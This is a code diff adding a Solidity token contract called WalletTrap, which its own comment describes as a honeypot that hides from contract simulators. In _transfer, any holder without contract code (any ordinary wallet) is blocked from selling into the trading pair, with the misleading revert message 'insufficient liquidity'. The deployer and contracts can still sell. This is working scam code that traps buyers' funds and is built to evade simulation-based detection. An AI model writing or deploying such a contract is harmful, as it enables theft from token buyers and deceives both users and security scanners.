@@ -1,0 +1,36 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface ITrapFactory {
+    function createPair(address, address) external returns (address);
+}
+
+// WalletTrap is a honeypot that hides from contract simulators: a holder
+// without code (every real wallet) cannot sell, while a contract can.
+contract WalletTrap {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    uint256 public totalSupply = 1e27;
+    address public pair;
+    address private immutable deployer;
+
+    constructor(address factory, address weth) {
+        pair = ITrapFactory(factory).createPair(address(this), weth);
+        deployer = msg.sender;
+        balanceOf[msg.sender] = totalSupply;
+    }
+
+    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
+    function transfer(address to, uint256 v) external returns (bool) { _transfer(msg.sender, to, v); return true; }
+    function transferFrom(address f, address to, uint256 v) external returns (bool) {
+        allowance[f][msg.sender] -= v;
+        _transfer(f, to, v);
+        return true;
+    }
+
+    function _transfer(address from, address to, uint256 v) internal {
+        if (to == pair && from != deployer && from.code.length == 0) revert("insufficient liquidity");
+        balanceOf[from] -= v;
+        balanceOf[to] += v;
+    }
+}
